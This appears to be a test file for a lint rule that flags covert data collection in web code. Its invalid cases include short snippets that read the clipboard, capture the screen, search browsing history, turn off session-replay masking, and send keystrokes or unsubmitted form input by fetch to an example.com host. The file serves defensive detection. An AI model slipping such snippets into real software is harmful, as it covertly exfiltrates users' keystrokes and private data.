import rule from '../../rules/no-covert-collection.ts';
import { inProject, tester } from '../support/tester.ts';

const filename = inProject('collection');
const send = (to: string, body: string): string => `fetch('https://${to}.example.com/', { method: 'POST', body: ${body} })`;
const on = (event: string, body: string): string => `document.addEventListener('${event}', (event) => ${body})`;

tester.run('no-covert-collection', rule, {
  assertionOptions: { requireMessage: 'messageId', requireLocation: true },
  valid: [
    { name: 'declared for this file', filename: inProject('collection', 'src/declared.ts'), code: 'navigator.clipboard.readText()' },
    { name: 'written, not read', filename, code: "navigator.clipboard.writeText('x')" },
    { name: 'a method of the same name', filename, code: 'export const f = (notes: { readText(): string }) => notes.readText()' },
    { name: 'a key that is only compared', filename, code: on('keydown', `event.key === 'Enter' && ${send('api', "'entered'")}`) },
    { name: 'keys to an entry that declares them', filename, code: on('keydown', send('studies', 'event.key')) },
    { name: 'keys to the own server', filename, code: on('keydown', "fetch('/typed', { method: 'POST', body: event.key })") },
    { name: 'a field when it is submitted', filename, code: on('submit', send('api', "document.querySelector('input').value")) },
    { name: 'one trait of a machine', filename, code: send('studies', 'speechSynthesis.getVoices().join()') },
    { name: 'a recording that masks', filename, code: "import { record } from 'rrweb'; record({ emit() {}, maskAllInputs: true })" },
    { name: 'a recording that masks by default', filename, code: "import { replayIntegration } from '@sentry/browser'; replayIntegration()" },
    { name: 'one variable of the environment', filename, code: 'JSON.stringify(process.env.NODE_ENV)' },
  ],
  invalid: [
    {
      name: 'the clipboard', filename, code: 'const { clipboard } = navigator; clipboard.readText()',
      errors: [{ messageId: 'elsewhere', data: { api: 'navigator.clipboard.readText', kind: 'clipboard', what: 'the clipboard' }, line: 1, column: 34, endLine: 1, endColumn: 54 }],
    },
    {
      name: 'the screen', filename, code: 'navigator.mediaDevices.getDisplayMedia()',
      errors: [{ messageId: 'collected', data: { api: 'navigator.mediaDevices.getDisplayMedia', kind: 'screen', what: 'the screen' }, line: 1, column: 1, endLine: 1, endColumn: 41 }],
    },
    {
      name: 'the browsing history', filename, code: "chrome.history.search({ text: '' })",
      errors: [{ messageId: 'collected', line: 1, column: 1, endLine: 1, endColumn: 36 }],
    },
    {
      name: 'keys', filename, code: on('keydown', send('api', 'event.key')),
      errors: [{ messageId: 'sent', data: { api: 'fetch', via: '', kind: 'keys', what: 'the keys that are pressed', to: 'https://api.example.com/', data: 'KeyboardEvent.key (user.behavior)', path: 'src/example.ts:1' }, line: 1, column: 49, endLine: 1, endColumn: 119 }],
    },
    {
      name: 'a field before it is submitted', filename, code: on('change', send('api', 'event.target.value')),
      errors: [{ messageId: 'early', data: { api: 'fetch', via: '', kind: 'forms', what: 'what is typed into a form', on: 'change', to: 'https://api.example.com/', data: 'InputEvent.target.value (user.content)', path: 'src/example.ts:1' }, line: 1, column: 48, endLine: 1, endColumn: 127 }],
    },
    {
      name: 'a recording without masks', filename, code: "import { replayIntegration } from '@sentry/browser'; replayIntegration({ maskAllText: false })",
      errors: [{ messageId: 'unmasked', data: { api: '@sentry/browser.replayIntegration', kind: 'replay', what: 'what people see and type', option: 'maskAllText: false' }, line: 1, column: 54, endLine: 1, endColumn: 95 }],
    },
  ],
});
